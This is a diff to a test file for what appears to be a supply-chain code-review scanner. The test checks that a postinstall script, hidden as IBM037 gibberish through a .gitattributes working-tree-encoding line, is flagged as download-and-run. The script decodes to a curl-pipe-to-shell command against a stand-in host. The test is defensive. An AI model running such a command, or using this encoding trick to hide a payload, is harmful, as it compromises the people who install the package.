@@ -111,30 +111,17 @@ describe("the text around a change", () => {
 
 describe("what a checkout makes of a file", () => {
   it("is read as it will be: gibberish in an odd encoding is a shell script", async () => {
-    // "curl https://x.example.invalid/a | sh" in IBM037, which git turns into text at checkout.
-    const text = "curl https://x.example.invalid/a | sh\n";
-    const ebcdic = Buffer.from([...text].map((char) => IBM037.get(char) ?? 0x6f));
+    // git writes this text out in IBM037, and then it reads
+    // "curl https://x.example.invalid/a | sh".
+    const gibberish =
+      "\u00c4\u00cd\u00ca%\u0080\u00c7\u00c8\u00c8\u00f8\u00cb\u009a\u0007\u0007\u00cc\u0006\u00c1\u00cc/_\u00f8%\u00c1\u0006\u00d1>\u00ce/%\u00d1\u00c0\u0007/\u0080@\u0080\u00cb\u00c7\u008e";
     const manifest = MANIFEST({ postinstall: "sh setup.sh" });
     const attributes = "setup.sh working-tree-encoding=IBM037\n";
     const review = await reviewChange(
       {},
-      { "package.json": manifest, "setup.sh": ebcdic, ".gitattributes": attributes },
+      { "package.json": manifest, "setup.sh": gibberish, ".gitattributes": attributes },
     );
     expect(review.verdict).not.toBe("clean");
     expect(rulesIn(review)).toContain("execution/download-and-run");
   });
 });
-
-const IBM037 = new Map<string, number>(
-  Object.entries({
-    ..."abcdefghi".split("").reduce((out, char, index) => ({ ...out, [char]: 0x81 + index }), {}),
-    ..."jklmnopqr".split("").reduce((out, char, index) => ({ ...out, [char]: 0x91 + index }), {}),
-    ..."stuvwxyz".split("").reduce((out, char, index) => ({ ...out, [char]: 0xa2 + index }), {}),
-    " ": 0x40,
-    ".": 0x4b,
-    "|": 0x4f,
-    "/": 0x61,
-    ":": 0x7a,
-    "\n": 0x25,
-  }),
-);
